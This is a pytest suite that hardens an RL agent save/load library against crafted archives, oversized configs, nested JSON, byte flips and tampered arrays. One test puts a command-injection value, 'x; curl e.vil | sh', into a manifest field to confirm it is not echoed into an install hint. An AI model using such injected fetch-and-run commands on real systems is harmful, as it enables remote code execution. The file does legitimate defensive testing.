"""A saved file can only load or raise AgentFileError, in bounded memory and disk.

Crafted archives, tampered values, byte-flip fuzzing, endless inputs, stale temporaries,
and the save/load symmetry (what save writes, load accepts; what load refuses, save
refuses first).
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import subprocess
import sys
import threading
import time
import zipfile

import gymnasium as gym
import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from helpers import rewrite
from nchain_agents import AgentFileError, AgentStateError, SpaceMismatchError, load, load_agent
from nchain_agents.limits import MAX_HISTORY_EPISODES


def short_env(**kwargs):
    return gym.make("NChain-v0", max_episode_steps=20, **kwargs)


@pytest.fixture(scope="module")
def q_file(tmp_path_factory):
    path = tmp_path_factory.mktemp("q") / "q.zip"
    load_agent("eps-greedy-q-table", seed=1).learn(short_env(), episodes=5).save(path)
    return path


@pytest.fixture(scope="module")
def dqn_file(tmp_path_factory):
    path = tmp_path_factory.mktemp("dqn") / "dqn.zip"
    load_agent("keras-dqn", seed=1).learn(short_env(), episodes=2).save(path)
    return path


def array_bytes(array):
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=False)
    return buffer.getvalue()


def inner_model(dqn_file, **members):
    """The nested model.keras of a saved keras-dqn, with some members replaced."""
    with zipfile.ZipFile(dqn_file) as outer:
        original = outer.read("files/model.keras")
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(original)) as zin,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zout,
    ):
        for item in zin.infolist():
            zout.writestr(item.filename, members.pop(item.filename, zin.read(item)))
        for name, data in members.items():
            zout.writestr(name, data)
    return buffer.getvalue()


def with_model(dqn_file, dst, model_bytes):
    return rewrite(
        dqn_file,
        dst,
        replace={"files/model.keras": model_bytes},
        manifest=lambda m: m | {"files": {"model.keras": {"size": len(model_bytes)}}},
    )


# -- the nested .keras ---------------------------------------------------------------------


def test_huge_config_inside_the_model_is_refused(tmp_path, dqn_file):
    """A 256 MiB config.json (compressing to ~256 KB) used to load with 2.75 GB."""
    big = b'{"a": "' + b" " * (256 << 20) + b'"}'
    bad = with_model(dqn_file, tmp_path / "big.zip", inner_model(dqn_file, **{"config.json": big}))
    assert bad.stat().st_size < 2 << 20
    with pytest.raises(AgentFileError, match=r"config.json.*declares \d+ bytes \(limit 65536\)"):
        load(bad)


def test_huge_weights_and_extra_members_are_refused(tmp_path, dqn_file):
    weights = inner_model(dqn_file, **{"model.weights.h5": b"\0" * (64 << 20)})
    with pytest.raises(AgentFileError, match=r"model.weights.h5.*declares"):
        load(with_model(dqn_file, tmp_path / "w.zip", weights))
    extra = inner_model(dqn_file, **{"padding.bin": b"\0" * 1000})
    with pytest.raises(AgentFileError, match=r"model.keras holds .* expected exactly"):
        load(with_model(dqn_file, tmp_path / "x.zip", extra))


@pytest.mark.parametrize(
    ("edit", "pattern"),
    [
        (lambda c: c["config"]["layers"][1]["config"].update(units=12000), "units 12000"),
        (lambda c: c["config"]["layers"][2]["config"].update(activation="relu"), "'relu'"),
        (lambda c: c["config"]["layers"][0]["config"].update(batch_shape=[None, 9]), "input"),
        (lambda c: c["config"]["layers"].append(c["config"]["layers"][1]), "two Dense"),
        (
            lambda c: c["config"]["layers"][1]["config"].update(
                dtype={"class_name": "DTypePolicy", "config": {"name": "float16"}}
            ),
            "float16",
        ),
    ],
)
def test_model_config_must_be_the_expected_network(tmp_path, dqn_file, edit, pattern):
    """Checked before Keras builds anything: Dense(12000) allocated 3.6 GB before."""
    with zipfile.ZipFile(io.BytesIO(inner_model(dqn_file))) as archive:
        config = json.loads(archive.read("config.json"))
    edit(config)
    model = inner_model(dqn_file, **{"config.json": json.dumps(config).encode()})
    with pytest.raises(AgentFileError, match=pattern):
        load(with_model(dqn_file, tmp_path / "c.zip", model))


def test_oversized_network_in_the_manifest_is_refused(tmp_path, dqn_file):
    """n = 40,000 with 4,096 hidden units allocated 2.7 GB before any check."""
    bad = rewrite(
        dqn_file,
        tmp_path / "n.zip",
        manifest=lambda m: (
            m
            | {
                "hyperparameters": m["hyperparameters"] | {"hidden_units": 4096},
                "spaces": {
                    "observation": {"type": "Discrete", "n": 40_000},
                    "action": m["spaces"]["action"],
                },
            }
        ),
    )
    with pytest.raises(AgentFileError, match="too large"):
        load(bad)


MEMORY_PROBE = """
import sys
def peak_mb():  # VmHWM: this process's own peak (ru_maxrss counts the parent's at fork)
    for line in open('/proc/self/status'):
        if line.startswith('VmHWM:'):
            return int(line.split()[1]) // 1024
from nchain_agents import load, AgentFileError
try:
    load(sys.argv[1])
    print("loaded")
except AgentFileError as exc:
    print("refused")
print(peak_mb())
"""


@pytest.mark.slow
def test_refused_models_cost_little_memory(tmp_path, dqn_file):
    """Peak memory of refusing the 256 MiB-config file, in a fresh process: TensorFlow's
    own start-up is ~0.7 GB; the file itself must add next to nothing (it took 2.75 GB)."""
    big = b'{"a": "' + b" " * (256 << 20) + b'"}'
    bad = with_model(dqn_file, tmp_path / "big.zip", inner_model(dqn_file, **{"config.json": big}))
    out = subprocess.run(
        [sys.executable, "-c", MEMORY_PROBE, str(bad)], capture_output=True, text=True, timeout=300
    )
    assert out.returncode == 0, out.stderr
    verdict, peak_mb = out.stdout.split()
    assert verdict == "refused"
    assert int(peak_mb) < 1500


# -- damaged and crafted archives -------------------------------------------------------------


def patch_local_headers(data: bytes, offset: int, value: bytes) -> bytes:
    """Overwrite a field of every local and central zip header (offsets per the zip spec)."""
    out = bytearray(data)
    for signature, base in ((b"PK\x03\x04", 0), (b"PK\x01\x02", 2)):
        index = out.find(signature)
        while index >= 0:
            out[index + base + offset : index + base + offset + len(value)] = value
            index = out.find(signature, index + 4)
    return bytes(out)


@pytest.mark.parametrize(
    ("field", "value", "name"),
    [
        (8, (99).to_bytes(2, "little"), "compression-method"),  # NotImplementedError before
        (6, (1).to_bytes(2, "little"), "encryption-flag"),  # RuntimeError before
    ],
)
def test_crafted_zip_headers(tmp_path, q_file, field, value, name):
    bad = tmp_path / f"{name}.zip"
    bad.write_bytes(patch_local_headers(q_file.read_bytes(), field, value))
    with pytest.raises(AgentFileError):
        load(bad)


def test_bad_offsets(tmp_path, q_file):
    data = bytearray(q_file.read_bytes())
    index = data.find(b"PK\x01\x02")
    data[index + 42 : index + 46] = (len(data) * 3).to_bytes(4, "little")  # local header offset
    bad = tmp_path / "offset.zip"
    bad.write_bytes(bytes(data))
    with pytest.raises(AgentFileError):
        load(bad)


@pytest.mark.parametrize(
    ("change", "pattern"),
    [
        (lambda m: m | {"hyperparameters": {"epsilon": "[" * 100_000}}, "epsilon must be float"),
        (lambda m: m | {"training": {"timesteps": -5}}, "timesteps must be an integer >= 0"),
        (lambda m: m | {"hyperparameters": m["hyperparameters"] | {"gamma": 10**400}}, "gamma"),
        (lambda m: m | {"spaces": {"observation": {"type": "Discrete", "n": 10**6}, "action": {"type": "Discrete", "n": 10**6}}}, "1000000 actions"),
        (lambda m: m | {"spaces": {"observation": {"type": "Discrete", "n": 2_000_000}, "action": {"type": "Discrete", "n": 2}}}, "2000000 states .agents handle 1 to 1,000,000"),
        (lambda m: m | {"seed": -3}, "'seed' must be a non-negative integer"),
    ],
)  # fmt: skip
def test_crafted_manifests(tmp_path, q_file, change, pattern):
    with pytest.raises(AgentFileError, match=pattern):
        load(rewrite(q_file, tmp_path / "m.zip", manifest=change))


def test_deeply_nested_manifest(tmp_path, q_file):
    """100,000 levels of nesting raised RecursionError."""
    with zipfile.ZipFile(q_file) as archive:
        text = archive.read("manifest.json").decode()
    nested = text[:-1] + ', "deep": ' + "[" * 100_000 + "]" * 100_000 + "}"
    bad = rewrite(q_file, tmp_path / "deep.zip", replace={"manifest.json": nested.encode()})
    with pytest.raises(AgentFileError, match="nest"):
        load(bad)


def test_rng_state_out_of_range(tmp_path, q_file):
    def change(m):
        m["rng_state"]["state"]["state"] = 2**200
        return m

    with pytest.raises(AgentFileError, match=r"rng_state|damaged"):
        load(rewrite(q_file, tmp_path / "rng.zip", manifest=change))


def flip_and_load(saved, tmp_path, position, flip):
    """Flip one byte of a saved file: it loads, or raises AgentFileError (nothing else)."""
    data = bytearray(saved.read_bytes())
    data[position % len(data)] ^= flip
    bad = tmp_path / "flipped.zip"
    bad.write_bytes(bytes(data))
    with contextlib.suppress(AgentFileError):  # anything else fails the test
        load(bad)


BYTES = {"position": st.integers(min_value=0), "flip": st.integers(min_value=1, max_value=255)}
FIXTURE_OK = [HealthCheck.function_scoped_fixture]


@settings(max_examples=150, deadline=None, suppress_health_check=FIXTURE_OK)
@given(**BYTES)
def test_byte_flips_load_or_raise_agent_file_error(tmp_path, q_file, position, flip):
    """Any single flipped byte (zlib.error in 18 % of positions before): loads, or refuses."""
    flip_and_load(q_file, tmp_path, position, flip)


@pytest.mark.slow
@settings(max_examples=40, deadline=None, suppress_health_check=FIXTURE_OK)
@given(**BYTES)
def test_byte_flips_in_keras_files(tmp_path, dqn_file, position, flip):
    flip_and_load(dqn_file, tmp_path, position, flip)


# -- tampered values ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("entry", "array", "pattern"),
    [
        ("arrays/table.npy", np.full((5, 2), np.nan), "table holds non-finite"),
        ("arrays/table.npy", np.full((5, 2), np.inf), "table holds non-finite"),
        ("arrays/epsilon.npy", np.array([np.nan]), "epsilon must be in"),
        ("arrays/epsilon.npy", np.array([-0.5]), "epsilon must be in"),
        ("arrays/history.length.npy", np.full(5, -20), "negative episode lengths"),
        ("arrays/history.reward.npy", np.full(5, np.inf), "non-finite episode rewards"),
    ],
)
def test_tampered_tabular_values(tmp_path, q_file, entry, array, pattern):
    with pytest.raises(AgentFileError, match=pattern):
        load(rewrite(q_file, tmp_path / "t.zip", replace={entry: array_bytes(array)}))


def test_tampered_adam_moments(tmp_path, dqn_file):
    with zipfile.ZipFile(dqn_file) as archive:
        m0 = np.load(io.BytesIO(archive.read("arrays/adam_m0.npy")))
    bad = rewrite(
        dqn_file, tmp_path / "a.zip", replace={"arrays/adam_m0.npy": array_bytes(m0 * np.nan)}
    )
    with pytest.raises(AgentFileError, match=r"adam_m0.*non-finite"):
        load(bad)
    v0 = -np.abs(m0) - 1
    bad = rewrite(
        dqn_file,
        tmp_path / "v.zip",
        replace={"arrays/adam_v0.npy": array_bytes(v0.astype(np.float32))},
    )
    with pytest.raises(AgentFileError, match="second moments"):
        load(bad)


def test_relabelled_file_is_refused(tmp_path, q_file):
    """A q-table file claiming to be naive-sum (hyperparameters emptied to fit)."""
    bad = rewrite(
        q_file,
        tmp_path / "r.zip",
        manifest=lambda m: m | {"agent": "naive-sum", "hyperparameters": {}},
    )
    with pytest.raises(AgentFileError, match="relabelled"):
        load(bad)


def test_install_hint_repeats_only_a_valid_distribution_name(tmp_path, q_file):
    bad = rewrite(
        q_file,
        tmp_path / "hint.zip",
        manifest=lambda m: m | {"agent": "evil-agent", "distribution": "x; curl e.vil | sh"},
    )
    with pytest.raises(AgentFileError) as info:
        load(bad)
    assert "curl" not in str(info.value) and "pip install" not in str(info.value)
    assert "'evil-agent' is not installed" in str(info.value)


# -- endless inputs and stale temporaries ----------------------------------------------------------


def test_devices_and_pipes_are_not_read(tmp_path):
    with pytest.raises(AgentFileError, match="not a regular file"):
        load("/dev/zero")
    fifo = tmp_path / "fifo.zip"
    os.mkfifo(fifo)
    outcome = []
    reader = threading.Thread(target=lambda: outcome.append(_try_load(fifo)), daemon=True)
    reader.start()
    reader.join(timeout=10)
    assert outcome == ["AgentFileError"]  # not hanging on a pipe nobody writes to


def _try_load(path):
    try:
        load(path)
    except AgentFileError:
        return "AgentFileError"
    return "loaded"


def test_stale_temporaries_of_killed_saves_are_removed(tmp_path):
    target = tmp_path / "agent.zip"
    dead = tmp_path / ".agent.zip.999999999.abcd1234.tmp"  # no such process
    old = tmp_path / f".agent.zip.{os.getppid()}.efgh5678.tmp"  # alive, but a day old
    live = tmp_path / f".agent.zip.{os.getppid()}.ijkl9012.tmp"  # alive and fresh
    other = tmp_path / ".other.zip.999999999.mnop3456.tmp"  # another file's
    for path in (dead, old, live, other):
        path.write_bytes(b"partial")
    day_ago = time.time() - 2 * 24 * 3600
    os.utime(old, (day_ago, day_ago))
    load_agent("random", seed=0).learn(short_env(), 1).save(target)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [target.name, live.name, other.name]
    )


def test_killed_save_leaves_a_temporary_that_the_next_save_removes(tmp_path):
    target = tmp_path / "agent.zip"
    code = (
        "import os, gymnasium as gym, nchain_gym, zipfile\n"
        "from nchain_agents import load_agent\n"
        "real = zipfile.ZipFile.writestr\n"
        "def killed(self, *a, **k):\n"
        "    os.kill(os.getpid(), 9)\n"
        "zipfile.ZipFile.writestr = killed\n"
        "load_agent('random', seed=0).learn(gym.make('NChain-v0', max_episode_steps=5), 1)"
        f".save({str(target)!r})\n"
    )
    subprocess.run([sys.executable, "-c", code], timeout=120, check=False)
    assert [p.name.endswith(".tmp") for p in tmp_path.iterdir()] == [True]
    load_agent("random", seed=0).learn(short_env(), 1).save(target)
    assert [p.name for p in tmp_path.iterdir()] == ["agent.zip"]


# -- what save writes, load accepts ----------------------------------------------------------------


def test_history_longer_than_files_keep_is_refused_at_save(tmp_path):
    agent = load_agent("random", seed=0).learn(short_env(), 1)
    n = MAX_HISTORY_EPISODES + 1
    agent.history.reward = [0.0] * n
    agent.history.length = [1] * n
    agent.history.epsilon = [float("nan")] * n
    with pytest.raises(AgentStateError, match="1,000,001 episodes; files keep at most 1,000,000"):
        agent.save(tmp_path / "long.zip")
    assert list(tmp_path.iterdir()) == []


def test_overflowing_rewards_are_refused_at_save(tmp_path):
    agent = load_agent("q-table", seed=0).learn(short_env(n=2, slip=0.0, large=1e308), 5)
    with pytest.raises(AgentStateError, match="non-finite"):
        agent.save(tmp_path / "inf.zip")


class HugeSpaces(gym.Env):
    observation_space = gym.spaces.Discrete(1_000_001)
    action_space = gym.spaces.Discrete(2)


def test_spaces_beyond_the_file_limits_are_refused_at_learn():
    """> 1,000,000 states saved, then failed to load with a wrong message; now learn
    refuses them, with the limit in the message."""
    with pytest.raises(
        SpaceMismatchError, match=r"1000001 states \(agents handle 1 to 1,000,000\)"
    ):
        load_agent("q-table").learn(gym.wrappers.TimeLimit(HugeSpaces(), 10), 1)
